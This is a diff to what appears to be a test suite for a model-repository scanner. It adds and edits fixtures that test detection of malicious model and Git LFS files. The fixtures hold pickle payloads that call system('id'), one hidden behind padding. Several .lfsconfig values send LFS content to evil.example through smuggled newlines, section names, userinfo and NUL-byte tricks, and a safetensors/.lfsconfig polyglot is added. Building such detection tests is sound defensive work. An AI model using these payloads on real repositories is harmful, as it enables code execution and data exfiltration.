@@ -45,6 +45,15 @@ def lfs_config(name: str, text: str, rule: str = "unlisted-destination") -> Atta
     return Attack(name, "", files(contents), rule, ".lfsconfig")
 
 
+def polyglot_config(directory: Path) -> None:
+    """Write a .lfsconfig that includes another file, in a comment that is a model."""
+    config = b"\n[include]\n\tpath = evil.config\n"
+    entry = raw.entry("U8", (len(config),), 0, len(config))
+    # The length of the header starts with the sign of a comment.
+    model = raw.safetensors(raw.header({"w": entry}).ljust(ord("#") + 256), config)
+    (directory / ".lfsconfig").write_bytes(model)
+
+
 def locked(content: bytes | str) -> Write:
     """Return a writer of a file that the lock knows as another one."""
     digest = hashlib.sha256(GGUF).hexdigest()
@@ -118,7 +127,6 @@ PART = "model-00001-of-00002.safetensors"
 ATTACKS = [
     Attack("a suffix of another format", "", file("a.safetensors", GGUF), "extension-mismatch", "a.safetensors"),
     Attack("weights under a suffix of no model", "", file("notes.txt", GGUF), "extension-mismatch", "notes.txt"),
-    Attack("a pickle under a suffix of no model", "CVE-2025-1889", file("notes.txt", b"cos\nsystem\n(S'id'\ntR."), "unsafe-import", "notes.txt"),
     Attack("a pickle behind a text longer than what is sniffed", "", file("notes.txt", b"V" + b"a" * 5000 + b"\n0cos\nsystem\n(S'id'\ntR."), "unsafe-import", "notes.txt"),
     named("a name that is read backwards", "RLO", "a\u202efugg.gguf"),
     named("a character that is not seen", "", "a\u200bb.gguf"),
@@ -133,7 +141,12 @@ ATTACKS = [
     lfs_config("another host for the content behind pointers", "[lfs]\nurl = https://evil.example/x\n"),
     lfs_config("another host to put content", "[lfs]\npushurl = git@evil.example:x\n"),
     lfs_config("another host for one remote", '[remote "origin"]\nlfsurl = https://evil.example/x\n'),
-    lfs_config("a host that only the second reading of .lfsconfig shows", '[lfs]\nfetchexclude = "x\\nlfs.url=https://evil.example/x"\n'),
+    lfs_config("a host behind a line break within a value", '[lfs]\nfetchexclude = "x\\nlfs.url=https://evil.example/x"\n'),
+    lfs_config("a host in the name of a section", '[lfs "url=https://evil.example/"]\nx\n'),
+    lfs_config("a host as the remote that is asked", "[remote]\nlfsdefault = https://evil.example/x\n"),
+    lfs_config("a host behind an allowed name that is its user", "[lfs]\nurl = huggingface.co:x@evil.example:y\n"),
+    lfs_config("a host in front of git's own protocol", "[lfs]\ngitprotocol = https://evil.example/x?\n"),
+    Attack("a .lfsconfig that is a model too", "", polyglot_config, UNREAD, ".lfsconfig"),
     lfs_config("a host in a file that .lfsconfig includes", "[include]\npath = x.config\n", UNREAD),
     lfs_config("a .lfsconfig that readers read differently", "[lfs]\nurl = https://good.example\0.evil.example\n", UNREAD),
     Attack("weights changed in place", "HiddenLayer 2024", locked(bytes(raw.Gguf(data=b"\1" * 128))), "digest-mismatch", "a.gguf"),
